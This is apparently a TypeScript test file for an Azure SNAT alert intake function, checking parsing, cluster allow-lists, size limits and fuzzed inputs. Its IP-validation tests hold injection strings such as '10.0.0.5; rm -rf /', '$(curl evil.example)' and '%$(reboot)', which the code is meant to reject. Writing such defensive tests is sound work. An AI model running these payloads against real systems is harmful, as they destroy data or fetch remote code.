/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-member-access --
   the corpus mutates parsed fixture JSON in place, whose shape is the point of each case */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loadSettings } from '../../lib/config/settings.js';
import type { Settings } from '../../lib/config/settings.js';
import { keyOfTarget, MAX_ALERT_BYTES, planAlert } from '../../lib/intake/alert.js';
import type { AlertPlan } from '../../lib/intake/alert.js';

const SUB = '/subscriptions/6f1d2c3b-4a59-4e8f-9a7b-0c1d2e3f4a5b';
const LB = `${SUB}/resourcegroups/mc_rg-shop_aks-shop_westeurope/providers/microsoft.network/loadbalancers/kubernetes`;
const LB_LEGACY = `${SUB}/resourceGroups/MC_rg-shop_aks-shop_westeurope/providers/Microsoft.Network/loadBalancers/kubernetes`;
const NATGW = `${SUB}/resourcegroups/rg-shop-egress/providers/microsoft.network/natgateways/ng-shop-egress`;
const CLUSTER = `${SUB}/resourceGroups/rg-shop/providers/Microsoft.ContainerService/managedClusters/aks-shop`;
const CLUSTER_B = `${SUB}/resourceGroups/rg-shop/providers/Microsoft.ContainerService/managedClusters/aks-shop-b`;
const ALERT_ID = `${SUB}/providers/Microsoft.AlertsManagement/alerts/0f3c2b1a-9e8d-4c7b-a6f5-e4d3c2b1a098`;
const WINDOW = { start: '2024-05-02T10:05:00.000Z', end: '2024-05-02T10:10:00.000Z' };

function settingsWith(extra: Record<string, string> = {}): Settings {
  return loadSettings({
    SNAT_TASK_HUB: 'snathub',
    SNAT_REPORT_STORAGE: 'UseDevelopmentStorage=true',
    // Mapped in the legacy spelling (mixed case): lookups are case-insensitive.
    SNAT_LB_CLUSTER_MAP: JSON.stringify({ [LB_LEGACY]: CLUSTER }),
    SNAT_NATGW_CLUSTER_MAP: JSON.stringify({
      [NATGW.toUpperCase().replace('/SUBSCRIPTIONS/', '/subscriptions/')]: CLUSTER,
    }),
    ...extra,
  });
}
const SETTINGS = settingsWith();

const fixture = (name: string): Buffer => readFileSync(new URL(`../fixtures/alert/${name}`, import.meta.url));
const fixtureJson = (name: string): Record<string, unknown> =>
  JSON.parse(
    fixture(name)
      .toString('utf8')
      .replace(/^\uFEFF/, ''),
  ) as Record<string, unknown>;
const bytes = (value: unknown): Uint8Array => new TextEncoder().encode(JSON.stringify(value));

const lbStart = (rule: string, severity: string, metrics: string[], ips: string[], extra: Partial<AlertPlan> = {}) => ({
  kind: 'start',
  status: 202,
  targets: ips.map((nodeIp) => ({ loadBalancerId: LB, clusterHint: CLUSTER, nodeIp })),
  window: WINDOW,
  alertId: ALERT_ID,
  alertRule: rule,
  severity,
  metrics,
  omittedNodeIps: [],
  ...extra,
});

describe('planAlert over the alert fixtures', () => {
  const cases: Array<[string, unknown]> = [
    ['common-lb-used-snat-ports.json', lbStart('aks-shop-used-snat-ports', 'Sev2', ['UsedSnatPorts'], ['10.224.0.5'])],
    ['bom.json', lbStart('aks-shop-used-snat-ports', 'Sev2', ['UsedSnatPorts'], ['10.224.0.5'])],
    ['common-snat-failed.json', lbStart('aks-shop-snat-failed', 'Sev1', ['SnatConnectionCount'], ['10.224.0.5'])],
    [
      'common-two-conditions.json',
      lbStart(
        'aks-shop-snat-pressure',
        'Sev2',
        ['UsedSNATPorts', 'SnatConnectionCount', 'UsedSnatPorts'],
        ['10.224.0.6', '10.224.0.7'],
      ),
    ],
    ['dynamic-threshold.json', lbStart('aks-shop-used-snat-ports-dynamic', 'Sev3', ['UsedSnatPorts'], ['10.224.0.8'])],
    [
      'ipv6-backend.json',
      lbStart('aks-dual-used-snat-ports', 'Sev2', ['UsedSnatPorts'], ['fd00:10:224::5', '10.224.0.5']),
    ],
    [
      'legacy-activated.json',
      {
        ...lbStart('aks-shop-used-snat-ports', 'Sev2', ['UsedSnatPorts'], []),
        targets: [{ loadBalancerId: LB_LEGACY, clusterHint: CLUSTER, nodeIp: '10.224.0.5' }],
        window: { start: null, end: '2024-05-02T10:11:03.4412345Z' },
        alertId: `${SUB}/resourceGroups/rg-shop/providers/microsoft.insights/metricAlerts/aks-shop-used-snat-ports`,
      },
    ],
    [
      'natgw-snat-connection-count.json',
      {
        ...lbStart('ng-shop-egress-snat-failed', 'Sev2', ['SNATConnectionCount'], []),
        targets: [{ natGatewayId: NATGW, clusterHint: CLUSTER, allNodes: { maxNodes: 10 } }],
      },
    ],
    [
      'common-resolved.json',
      {
        kind: 'ignore',
        status: 202,
        code: 'resolved',
        reason: 'alert "aks-shop-used-snat-ports" is Resolved: nothing to investigate',
      },
    ],
    [
      'log-alert.json',
      {
        kind: 'ignore',
        status: 202,
        code: 'not-metric-alert',
        reason: '"Log" alert: not a metric alert, nothing to investigate',
      },
    ],
    [
      'activity-log-alert.json',
      {
        kind: 'ignore',
        status: 202,
        code: 'not-metric-alert',
        reason: '"Activity Log" alert: not a metric alert, nothing to investigate',
      },
    ],
    [
      'injection-backend-ip.json',
      {
        kind: 'reject',
        status: 400,
        code: 'invalid-dimension',
        field: 'data.alertContext.condition.allOf[0].dimensions[1].value',
        reason:
          'IP address dimensions (BackendIPAddress, FrontendIPAddress) that are not bare IP literals (a dotted quad or an IPv6 address, without brackets, zone, prefix length or spaces): ' +
          'data.alertContext.condition.allOf[0].dimensions[1].value = "10.0.0.5; rm -rf /"; ' +
          'data.alertContext.condition.allOf[1].dimensions[1].value = "10.224.0.0/16"; ' +
          'data.alertContext.condition.allOf[2].dimensions[1].value = "*"; ' +
          'data.alertContext.condition.allOf[3].dimensions[1].value = "aks-nodepool1-12345678-vmss000002"; ' +
          'data.alertContext.condition.allOf[4].dimensions[0].value = "$(curl evil.example)"',
      },
    ],
    [
      'invalid-json.json',
      {
        kind: 'reject',
        status: 400,
        code: 'invalid-json',
        reason: `alert body:8:7: alert payload is not valid JSON: unexpected character '"', expected ',' or '}'`,
      },
    ],
    [
      'missing-metric-name.json',
      {
        kind: 'reject',
        status: 400,
        code: 'invalid-alert',
        field: 'data.alertContext.condition.allOf[1].metricName',
        reason:
          'alert body: invalid alert: Invalid input: expected string, received undefined (field data.alertContext.condition.allOf[1].metricName)',
      },
    ],
    [
      'unknown-schema.json',
      {
        kind: 'reject',
        status: 400,
        code: 'unknown-schema',
        field: 'schemaId',
        reason:
          'alert body: unknown alert schemaId "Microsoft.Insights/LogAlert" (expected azureMonitorCommonAlertSchema or AzureMonitorMetricAlert) (field schemaId)',
      },
    ],
  ];

  it.each(cases)('%s', (name, expected) => {
    expect(planAlert(fixture(name), SETTINGS)).toEqual(expected);
  });
});

type Json = Record<string, any>;

function common(mutate: (alert: Json) => void): Uint8Array {
  const alert = fixtureJson('common-lb-used-snat-ports.json') as Json;
  mutate(alert);
  return bytes(alert);
}
const criteria = (alert: Json): Json[] => alert.data.alertContext.condition.allOf as Json[];

describe('alerts that start nothing', () => {
  const corpus: Array<[string, Uint8Array, Partial<AlertPlan>, Settings?]> = [
    [
      'a metric other than the SNAT ones',
      common((a) => {
        criteria(a)[0]!.metricName = 'ByteCount';
      }),
      {
        kind: 'ignore',
        status: 202,
        code: 'not-snat-metric',
        reason:
          'alert "aks-shop-used-snat-ports" is on "ByteCount", not a SNAT metric of a load balancer (UsedSnatPorts, AllocatedSnatPorts, SnatConnectionCount) or NAT gateway (SNATConnectionCount): nothing to investigate',
      },
    ],
    [
      'a NAT gateway metric that is not SNATConnectionCount',
      (() => {
        const a = fixtureJson('natgw-snat-connection-count.json') as Json;
        criteria(a)[0]!.metricName = 'UsedSnatPorts';
        return bytes(a);
      })(),
      { kind: 'ignore', code: 'not-snat-metric' },
    ],
    [
      'a load balancer alert with no BackendIPAddress dimension',
      common((a) => {
        criteria(a)[0]!.dimensions = [{ name: 'FrontendIPAddress', value: '20.31.42.53' }];
      }),
      {
        kind: 'reject',
        status: 400,
        code: 'no-node-dimension',
        reason:
          'load balancer alert "aks-shop-used-snat-ports" names no node: its SNAT conditions have no BackendIPAddress dimension (split the alert rule by BackendIPAddress)',
      },
    ],
    [
      'a load balancer alert with no dimensions at all',
      common((a) => {
        delete criteria(a)[0]!.dimensions;
      }),
      { kind: 'reject', code: 'no-node-dimension' },
    ],
    [
      'a node IP only on a non-SNAT condition',
      common((a) => {
        criteria(a).push({ ...criteria(a)[0], metricName: 'ByteCount' });
        criteria(a)[0]!.dimensions = [];
      }),
      { kind: 'reject', code: 'no-node-dimension' },
    ],
    [
      'a legacy Resolved alert',
      (() => {
        const a = fixtureJson('legacy-activated.json') as Json;
        a.data.status = 'Resolved';
        return bytes(a);
      })(),
      {
        kind: 'ignore',
        code: 'resolved',
        reason: 'alert "aks-shop-used-snat-ports" is Resolved: nothing to investigate',
      },
    ],
    [
      'a monitorCondition Azure does not send',
      common((a) => {
        a.data.essentials.monitorCondition = 'Acknowledged';
      }),
      { kind: 'reject', status: 400, code: 'invalid-alert', field: 'data.essentials.monitorCondition' },
    ],
    [
      'a target that is neither a load balancer nor a NAT gateway',
      common((a) => {
        a.data.essentials.alertTargetIDs = [
          `${SUB}/resourcegroups/rg/providers/microsoft.compute/virtualmachinescalesets/vmss`,
        ];
        criteria(a)[0]!.metricNamespace = 'Microsoft.Compute/virtualMachineScaleSets';
      }),
      {
        kind: 'reject',
        code: 'unsupported-target',
        reason: `alert target "${SUB}/resourcegroups/rg/providers/microsoft.compute/virtualmachinescalesets/vmss" is neither a load balancer nor a NAT gateway`,
      },
    ],
    [
      'a NAT gateway the mapping does not name',
      fixture('natgw-snat-connection-count.json'),
      {
        kind: 'reject',
        status: 400,
        code: 'unmapped-nat-gateway',
        reason: `NAT gateway "${NATGW}" is not in SNAT_NATGW_CLUSTER_MAP: a NAT gateway alert names no node, so the mapping must say which cluster's nodes to census`,
      },
      settingsWith({ SNAT_NATGW_CLUSTER_MAP: '' }),
    ],
    [
      'a mapped load balancer whose cluster is outside the allow-list',
      fixture('common-lb-used-snat-ports.json'),
      {
        kind: 'reject',
        status: 400,
        code: 'cluster-not-allowed',
        reason: `cluster "${CLUSTER}" is not in SNAT_ALLOWED_CLUSTER_IDS: nothing started`,
      },
      settingsWith({ SNAT_ALLOWED_CLUSTER_IDS: CLUSTER_B }),
    ],
    [
      'an unmapped load balancer under an allow-list',
      fixture('common-lb-used-snat-ports.json'),
      {
        kind: 'reject',
        code: 'cluster-not-allowed',
        reason: `load balancer "${LB}" is not in SNAT_LB_CLUSTER_MAP, so its cluster cannot be checked against SNAT_ALLOWED_CLUSTER_IDS: nothing started`,
      },
      settingsWith({ SNAT_ALLOWED_CLUSTER_IDS: CLUSTER, SNAT_LB_CLUSTER_MAP: '' }),
    ],
    [
      'a NAT gateway mapped to a cluster outside the allow-list',
      fixture('natgw-snat-connection-count.json'),
      { kind: 'reject', code: 'cluster-not-allowed' },
      settingsWith({ SNAT_ALLOWED_CLUSTER_IDS: CLUSTER_B }),
    ],
    [
      'a body over 256 KB (refused before parsing, even if it were valid)',
      common((a) => {
        a.data.customProperties = { pad: 'x'.repeat(MAX_ALERT_BYTES) };
      }),
      {
        kind: 'reject',
        status: 413,
        code: 'too-large',
      },
    ],
    ['an empty body', new Uint8Array(), { kind: 'reject', status: 400, code: 'empty' }],
    ['a JSON array', bytes([1, 2]), { kind: 'reject', status: 400, code: 'unknown-schema' }],
    ['JSON null', bytes(null), { kind: 'reject', status: 400, code: 'unknown-schema' }],
    ['not UTF-8', new Uint8Array([0xff, 0xfe, 0x00, 0x7b]), { kind: 'reject', status: 400, code: 'invalid-json' }],
    [
      'common schema with no alertContext',
      common((a) => {
        delete a.data.alertContext;
      }),
      { kind: 'reject', status: 400, code: 'invalid-alert', field: 'data.alertContext' },
    ],
    [
      'an empty allOf',
      common((a) => {
        a.data.alertContext.condition.allOf = [];
      }),
      { kind: 'reject', status: 400, code: 'invalid-alert', field: 'data.alertContext.condition.allOf' },
    ],
  ];

  it.each(corpus)('%s', (_name, body, expected, settings) => {
    const plan = planAlert(body, settings ?? SETTINGS);
    expect(plan).toMatchObject(expected);
    expect(plan.kind).not.toBe('start');
  });

  it('states the size of a refused body without parsing it', () => {
    const body = new Uint8Array(MAX_ALERT_BYTES + 1).fill(0x7b);
    expect(planAlert(body, SETTINGS)).toEqual({
      kind: 'reject',
      status: 413,
      code: 'too-large',
      reason: `alert body is ${MAX_ALERT_BYTES + 1} bytes, over the 256 KB limit of Azure Monitor alerts; not parsed`,
    });
  });
});

describe('BackendIPAddress must be a bare IP literal (FORMATS.md section 10)', () => {
  const withBackend = (value: string): Uint8Array =>
    common((a) => {
      criteria(a)[0]!.dimensions = [
        { name: 'FrontendIPAddress', value: '20.31.42.53' },
        { name: 'BackendIPAddress', value },
      ];
    });
  const FIELD = 'data.alertContext.condition.allOf[0].dimensions[1].value';

  it.each([
    '10.224.0.4%eth0',
    '10.224.0.4%$(reboot)',
    '[10.224.0.4]',
    '[fd00:e0::4]',
    'fe80::4%eth0',
    ' 10.224.0.4',
    '10.224.0.4 ',
    '010.224.0.4',
  ])('%j: 400 invalid-dimension naming the field, nothing started', (value) => {
    expect(planAlert(withBackend(value), SETTINGS)).toEqual({
      kind: 'reject',
      status: 400,
      code: 'invalid-dimension',
      field: FIELD,
      reason:
        'IP address dimensions (BackendIPAddress, FrontendIPAddress) that are not bare IP literals (a dotted quad or an IPv6 address, without brackets, zone, prefix length or spaces): ' +
        `${FIELD} = ${JSON.stringify(value)}`,
    });
  });

  it('a FrontendIPAddress with a zone is refused the same way', () => {
    const body = common((a) => {
      criteria(a)[0]!.dimensions = [
        { name: 'FrontendIPAddress', value: '20.31.42.53%eth0' },
        { name: 'BackendIPAddress', value: '10.224.0.4' },
      ];
    });
    expect(planAlert(body, SETTINGS)).toMatchObject({
      kind: 'reject',
      code: 'invalid-dimension',
      field: 'data.alertContext.condition.allOf[0].dimensions[0].value',
    });
  });

  it.each([
    ['10.224.0.4', '10.224.0.4'],
    ['fd00:e0::4', 'fd00:e0::4'],
    ['FD00:E0:0:0::4', 'fd00:e0::4'],
    ['::ffff:10.224.0.4', '10.224.0.4'],
  ])('%j starts an investigation on %s', (value, nodeIp) => {
    expect(planAlert(withBackend(value), SETTINGS)).toMatchObject({ kind: 'start', targets: [{ nodeIp }] });
  });
});

describe('targets', () => {
  it('starts an unmapped load balancer without a cluster hint', () => {
    const plan = planAlert(fixture('common-lb-used-snat-ports.json'), settingsWith({ SNAT_LB_CLUSTER_MAP: '' }));
    expect(plan).toMatchObject({ kind: 'start', targets: [{ loadBalancerId: LB, nodeIp: '10.224.0.5' }] });
    expect(plan.kind === 'start' && 'clusterHint' in plan.targets[0]!).toBe(false);
  });

  it('bounds node IPs by SNAT_MAX_NODES_PER_ALERT and lists the rest', () => {
    const body = common((a) => {
      const first = criteria(a)[0]!;
      a.data.alertContext.condition.allOf = [1, 2, 3].map((n) => ({
        ...first,
        dimensions: [{ name: 'BackendIPAddress', value: `10.224.0.${n}` }],
      }));
    });
    const plan = planAlert(body, settingsWith({ SNAT_MAX_NODES_PER_ALERT: '2' }));
    expect(plan).toMatchObject({
      kind: 'start',
      targets: [{ nodeIp: '10.224.0.1' }, { nodeIp: '10.224.0.2' }],
      omittedNodeIps: ['10.224.0.3'],
    });
  });

  it('censuses every cluster a NAT gateway maps to, bounded', () => {
    const plan = planAlert(
      fixture('natgw-snat-connection-count.json'),
      settingsWith({
        SNAT_NATGW_CLUSTER_MAP: JSON.stringify({ [NATGW]: [CLUSTER, CLUSTER_B] }),
        SNAT_MAX_NODES_PER_ALERT: '3',
      }),
    );
    expect(plan).toMatchObject({
      kind: 'start',
      targets: [
        { natGatewayId: NATGW, clusterHint: CLUSTER, allNodes: { maxNodes: 3 } },
        { natGatewayId: NATGW, clusterHint: CLUSTER_B, allNodes: { maxNodes: 3 } },
      ],
    });
  });

  it('keys targets by cluster + node, the load balancer standing in for an unknown cluster', () => {
    expect(keyOfTarget({ loadBalancerId: LB, clusterHint: CLUSTER, nodeIp: '10.224.0.5' })).toBe(
      `${CLUSTER.toLowerCase()}|10.224.0.5`,
    );
    expect(keyOfTarget({ loadBalancerId: LB_LEGACY, nodeIp: 'FD00::5' })).toBe(`${LB}|fd00::5`);
    expect(keyOfTarget({ natGatewayId: NATGW, clusterHint: CLUSTER, allNodes: { maxNodes: 3 } })).toBe(
      `${CLUSTER.toLowerCase()}|*`,
    );
  });

  it('accepts an allowed cluster', () => {
    const plan = planAlert(fixture('bom.json'), settingsWith({ SNAT_ALLOWED_CLUSTER_IDS: CLUSTER.toLowerCase() }));
    expect(plan.kind).toBe('start');
  });
});

describe('planAlert is total', () => {
  it('never throws on arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2048 }), (body) => {
        const plan = planAlert(body, SETTINGS);
        expect(['ignore', 'reject', 'start']).toContain(plan.kind);
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on arbitrary JSON, nor on fixtures with a value replaced anywhere', () => {
    const base = fixtureJson('common-two-conditions.json');
    const paths: Array<Array<string | number>> = [];
    const walk = (v: unknown, path: Array<string | number>): void => {
      paths.push(path);
      if (Array.isArray(v)) v.forEach((x, i) => walk(x, [...path, i]));
      else if (v !== null && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, [...path, k]);
    };
    walk(base, []);
    fc.assert(
      fc.property(fc.jsonValue(), fc.nat(paths.length - 1), fc.boolean(), (value, index, replace) => {
        let body: unknown = value;
        if (replace) {
          const copy = structuredClone(base) as Json;
          const path = paths[index]!;
          if (path.length === 0) body = value;
          else {
            let target: Json = copy;
            for (const key of path.slice(0, -1)) target = target[key] as Json;
            target[path[path.length - 1]!] = value;
            body = copy;
          }
        }
        const plan = planAlert(bytes(body), SETTINGS);
        expect(['ignore', 'reject', 'start']).toContain(plan.kind);
        if (plan.kind === 'start') {
          for (const t of plan.targets) if ('nodeIp' in t) expect(t.nodeIp).toMatch(/^[0-9a-f.:]+$/);
        }
      }),
      { numRuns: 400 },
    );
  });
});
